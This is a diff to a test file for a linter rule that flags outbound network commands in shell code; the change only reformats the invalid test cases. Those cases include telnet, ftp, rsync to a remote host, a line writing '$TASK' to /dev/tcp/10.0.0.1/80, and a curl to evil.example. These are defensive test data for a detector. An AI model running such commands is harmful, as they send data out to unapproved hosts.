@@ -19,8 +19,21 @@ ruleTester(rule, {
     { name: 'telnet', code: 'telnet host 23', errors: [{ line: 1, column: 1 }] },
     { name: 'ftp', code: 'ftp host', errors: [{ line: 1, column: 1 }] },
     { name: 'rsync to a remote host', code: 'rsync -a ./out/ user@backup:/srv/', errors: [{ line: 1, column: 1, endColumn: 34 }] },
-    { name: '/dev/tcp', code: 'echo "$TASK" > /dev/tcp/10.0.0.1/80', errors: [{ messageId: 'devTcp', line: 1, column: 16, endColumn: 36 }] },
-    { name: 'after the tree-sitter misparse of a 3-stage pipeline', code: 'a | b | c\ncurl -s http://h/x && y', errors: [{ line: 2, column: 1, endColumn: 19 }] },
-    { name: 'a host not on the list', code: 'curl http://evil.example/x', options: { allowedHosts: ['localhost'] }, errors: [{ line: 1, column: 1 }] },
+    {
+      name: '/dev/tcp',
+      code: 'echo "$TASK" > /dev/tcp/10.0.0.1/80',
+      errors: [{ messageId: 'devTcp', line: 1, column: 16, endColumn: 36 }],
+    },
+    {
+      name: 'after the tree-sitter misparse of a 3-stage pipeline',
+      code: 'a | b | c\ncurl -s http://h/x && y',
+      errors: [{ line: 2, column: 1, endColumn: 19 }],
+    },
+    {
+      name: 'a host not on the list',
+      code: 'curl http://evil.example/x',
+      options: { allowedHosts: ['localhost'] },
+      errors: [{ line: 1, column: 1 }],
+    },
   ],
 });
